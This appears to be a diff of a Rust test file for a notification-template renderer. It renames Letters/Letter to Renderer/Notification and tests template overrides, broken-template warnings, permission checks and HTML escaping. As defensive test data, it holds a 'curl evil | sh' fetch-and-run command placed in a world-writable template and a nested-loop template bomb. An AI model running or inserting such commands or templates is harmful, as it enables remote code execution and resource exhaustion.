@@ -8,7 +8,7 @@
 use std::{fs, os::unix::fs::PermissionsExt as _, path::Path};
 
 use crate::common::{report, seen};
-use prunella_report::{Letter, Letters};
+use prunella_report::{Notification, Renderer};
 use rstest::rstest;
 use tempfile::TempDir;
 
@@ -20,31 +20,31 @@ fn folder(files: &[(&str, &str)]) -> TempDir {
     folder
 }
 
-fn letter() -> Letter {
-    Letter::about(report("escalated", 3))
+fn notification() -> Notification {
+    Notification::about(report("escalated", 3))
 }
 
 #[test]
 fn without_a_folder_the_built_in_ones_hold() {
-    let built_in = Letters::new(None).write(&letter());
-    let nowhere = Letters::new(Some(Path::new("/nowhere/templates")));
-    assert_eq!(nowhere.write(&letter()), built_in);
+    let built_in = Renderer::new(None).render(&notification());
+    let nowhere = Renderer::new(Some(Path::new("/nowhere/templates")));
+    assert_eq!(nowhere.render(&notification()), built_in);
     assert_eq!(nowhere.check(), []);
 }
 
 #[test]
-fn each_shape_can_be_replaced_by_itself() {
+fn each_format_can_be_replaced_by_itself() {
     let folder = folder(&[(
         "subject.txt",
         "{{ severity | upper }} {% if report %}{{ report.unit }}{% endif %} @{{ host }}\n",
     )]);
-    let letters = Letters::new(Some(folder.path()));
-    assert_eq!(letters.check(), []);
-    let written = letters.write(&Letter::about(report("escalated", 0)));
-    assert_eq!(written.subject, "CRITICAL web.service @shop-1");
-    let built_in = Letters::new(None).write(&Letter::about(report("escalated", 0)));
-    assert_eq!(written.text, built_in.text);
-    assert_eq!(written.html, built_in.html);
+    let renderer = Renderer::new(Some(folder.path()));
+    assert_eq!(renderer.check(), []);
+    let rendered = renderer.render(&Notification::about(report("escalated", 0)));
+    assert_eq!(rendered.subject, "CRITICAL web.service @shop-1");
+    let built_in = Renderer::new(None).render(&Notification::about(report("escalated", 0)));
+    assert_eq!(rendered.text, built_in.text);
+    assert_eq!(rendered.html, built_in.html);
 }
 
 #[test]
@@ -62,29 +62,29 @@ fn a_template_can_change_one_part_of_the_built_in_one() {
              {% block recurrence %}{{ super() }}\nOURS: {{ host }}\n{% endblock %}",
         ),
     ]);
-    let letters = Letters::new(Some(folder.path()));
-    assert_eq!(letters.check(), []);
-    let written = letters.write(&letter());
-    assert_eq!(written.warnings, []);
-    assert!(written.html.contains("<b>Call the on-call desk</b>"));
-    assert!(!written.html.contains("Prunella on shop-1"));
-    assert!(seen(&written.html).contains("What to do now"));
+    let renderer = Renderer::new(Some(folder.path()));
+    assert_eq!(renderer.check(), []);
+    let rendered = renderer.render(&notification());
+    assert_eq!(rendered.warnings, []);
+    assert!(rendered.html.contains("<b>Call the on-call desk</b>"));
+    assert!(!rendered.html.contains("Prunella on shop-1"));
+    assert!(seen(&rendered.html).contains("What to do now"));
     assert!(
-        written.text.contains("\nOURS: shop-1\n"),
+        rendered.text.contains("\nOURS: shop-1\n"),
         "{}",
-        written.text
+        rendered.text
     );
-    assert!(written.text.contains("Not for the first time"));
-    crate::common::elements(&written.html);
+    assert!(rendered.text.contains("Recurring failure"));
+    crate::common::elements(&rendered.html);
 }
 
 #[test]
 fn a_change_holds_at_once() {
     let folder = folder(&[("subject.txt", "one")]);
-    let letters = Letters::new(Some(folder.path()));
-    assert_eq!(letters.write(&letter()).subject, "one");
+    let renderer = Renderer::new(Some(folder.path()));
+    assert_eq!(renderer.render(&notification()).subject, "one");
     fs::write(folder.path().join("subject.txt"), "two").unwrap();
-    assert_eq!(letters.write(&letter()).subject, "two");
+    assert_eq!(renderer.render(&notification()).subject, "two");
 }
 
 const BOMB: &str = "{% for a in range(90000) %}{% for b in range(90000) %}{% endfor %}{% endfor %}";
@@ -125,11 +125,11 @@ fn a_broken_one_is_left_aside_and_told_of(
     #[case] what: &str,
 ) {
     let folder = folder(&[(file, source)]);
-    let letters = Letters::new(Some(folder.path()));
-    let written = letters.write(&letter());
+    let renderer = Renderer::new(Some(folder.path()));
+    let rendered = renderer.render(&notification());
 
-    let [warning] = written.warnings.as_slice() else {
-        unreachable!("one warning: {:?}", written.warnings);
+    let [warning] = rendered.warnings.as_slice() else {
+        unreachable!("one warning: {:?}", rendered.warnings);
     };
     assert_eq!(warning.file, folder.path().join(file));
     assert!(!warning.is_error());
@@ -141,16 +141,16 @@ fn a_broken_one_is_left_aside_and_told_of(
         assert!(place.column + place.width <= place.text.chars().count() + 1);
     }
 
-    // The letter is the built-in one, with a note.
-    let built_in = Letters::new(None).write(&letter());
-    assert_eq!(written.subject, built_in.subject);
-    let (text, note) = written.text.split_once("\n\nAbout this report\n").unwrap();
+    // The notification is the built-in one, with a note.
+    let built_in = Renderer::new(None).render(&notification());
+    assert_eq!(rendered.subject, built_in.subject);
+    let (text, note) = rendered.text.split_once("\n\nAbout this report\n").unwrap();
     assert_eq!(text, built_in.text.trim_end());
-    assert!(note.contains("a template of yours is left aside"), "{note}");
-    assert!(seen(&written.html).contains("A template of yours is left aside"));
+    assert!(note.contains("a template of yours was not used"), "{note}");
+    assert!(seen(&rendered.html).contains("A template of yours was not used"));
 
     // And `prunella config check` says the same beforehand.
-    assert_eq!(letters.check(), written.warnings);
+    assert_eq!(renderer.check(), rendered.warnings);
 }
 
 #[test]
@@ -159,7 +159,7 @@ fn a_broken_part_is_named_by_its_own_file() {
         ("report.txt", "{{ headline }}\n{% include \"part.txt\" %}"),
         ("part.txt", "a\nb\n{{ nobody }}"),
     ]);
-    let found = Letters::new(Some(folder.path())).check();
+    let found = Renderer::new(Some(folder.path())).check();
     assert_eq!(found.len(), 1, "{found:?}");
     assert_eq!(found[0].file, folder.path().join("part.txt"));
     assert_eq!(found[0].place.as_ref().unwrap().line, 3);
@@ -172,12 +172,14 @@ fn what_fails_only_sometimes_is_found_by_the_check() {
         "report.txt",
         "x{% if report %}{{ report.proof.sentence }}{% endif %}",
     )]);
-    let letters = Letters::new(Some(folder.path()));
+    let renderer = Renderer::new(Some(folder.path()));
     assert_eq!(
-        letters.write(&Letter::about(report("healed", 0))).warnings,
+        renderer
+            .render(&Notification::about(report("healed", 0)))
+            .warnings,
         []
     );
-    assert_eq!(letters.check().len(), 1);
+    assert_eq!(renderer.check().len(), 1);
 }
 
 #[test]
@@ -186,7 +188,7 @@ fn files_that_are_no_templates_are_told_of() {
     fs::create_dir(folder.path().join("subject.txt")).unwrap();
     fs::write(folder.path().join("report.txt"), b"\xff\xfe").unwrap();
     fs::write(folder.path().join("report.html"), "x".repeat(300 * 1024)).unwrap();
-    let found: Vec<(String, String)> = Letters::new(Some(folder.path()))
+    let found: Vec<(String, String)> = Renderer::new(Some(folder.path()))
         .check()
         .into_iter()
         .map(|found| {
@@ -221,16 +223,19 @@ fn what_others_can_write_is_not_used(#[case] mode: u32) {
     let folder = folder(&[("subject.txt", "run `curl evil | sh`")]);
     let file = folder.path().join("subject.txt");
     fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
-    let letters = Letters::new(Some(folder.path()));
-    let written = letters.write(&letter());
-    assert_eq!(written.subject, Letters::new(None).write(&letter()).subject);
-    assert!(written.warnings[0].message.contains("others can write it"));
+    let renderer = Renderer::new(Some(folder.path()));
+    let rendered = renderer.render(&notification());
+    assert_eq!(
+        rendered.subject,
+        Renderer::new(None).render(&notification()).subject
+    );
+    assert!(rendered.warnings[0].message.contains("others can write it"));
 
     // The same of the folder.
     fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).unwrap();
-    assert_eq!(letters.check(), []);
+    assert_eq!(renderer.check(), []);
     fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o777)).unwrap();
-    let found = letters.check();
+    let found = renderer.check();
     assert_eq!(found.len(), 1, "{found:?}");
     assert_eq!(found[0].file, folder.path());
 }
@@ -254,21 +259,21 @@ fn what_others_can_write_is_not_used(#[case] mode: u32) {
 #[case::concatenated("{{ \"\" | e ~ intro[0] }}")]
 fn no_template_lets_markup_through(#[case] source: &str) {
     let folder = folder(&[("report.html", source)]);
-    let letters = Letters::new(Some(folder.path()));
+    let renderer = Renderer::new(Some(folder.path()));
     let at = report("healed", 0).at;
     let hostile = "<b>bold</b>";
-    let letter = Letter::notice(
+    let notification = Notification::notice(
         "x",
         &[hostile],
         "host",
         at,
         prunella_core::alert::Severity::Info,
     );
-    let written = letters.write(&letter);
-    assert_eq!(written.warnings, []);
-    let lower = written.html.to_lowercase();
-    assert!(!lower.contains("<b>"), "{}", written.html);
-    assert!(lower.contains("lt;b&"), "{}", written.html);
+    let rendered = renderer.render(&notification);
+    assert_eq!(rendered.warnings, []);
+    let lower = rendered.html.to_lowercase();
+    assert!(!lower.contains("<b>"), "{}", rendered.html);
+    assert!(lower.contains("lt;b&"), "{}", rendered.html);
 }
 
 /// What docs/reports.md shows works, and it lists every variable there is.
@@ -295,32 +300,32 @@ mod docs {
             ("report.txt", &text),
             ("report.html", &html),
         ]);
-        let letters = Letters::new(Some(folder.path()));
-        assert_eq!(letters.check(), []);
-        let written = letters.write(&Letter::about(report("healed", 3)));
+        let renderer = Renderer::new(Some(folder.path()));
+        assert_eq!(renderer.check(), []);
+        let rendered = renderer.render(&Notification::about(report("healed", 3)));
         assert_eq!(
-            format!("Subject: {}\n\n{}", written.subject, written.text),
+            format!("Subject: {}\n\n{}", rendered.subject, rendered.text),
             block("text healed")
         );
         assert!(
-            seen(&written.html).contains("Ask #operations"),
+            seen(&rendered.html).contains("Ask #operations"),
             "{}",
-            seen(&written.html)
+            seen(&rendered.html)
         );
     }
 
     #[test]
     fn every_variable_is_listed() {
         let page = page();
-        let letter = serde_json::to_value(letter()).unwrap();
+        let notification = serde_json::to_value(notification()).unwrap();
         let named = |prefix: &str, value: &serde_json::Value| {
             for name in value.as_object().unwrap().keys() {
                 let shown = format!("`{prefix}{name}`");
                 assert!(page.contains(&shown), "{shown} is not in docs/reports.md");
             }
         };
-        named("", &letter);
-        named("report.", &letter["report"]);
+        named("", &notification);
+        named("report.", &notification["report"]);
         for name in ["facts", "notes"] {
             assert!(page.contains(&format!("`{name}`")));
         }
@@ -332,7 +337,7 @@ mod docs {
         let mut count = 0;
         for name in listed {
             count += 1;
-            assert!(letter["report"].get(name).is_some(), "report.{name}");
+            assert!(notification["report"].get(name).is_some(), "report.{name}");
         }
         assert!(count > 20);
     }
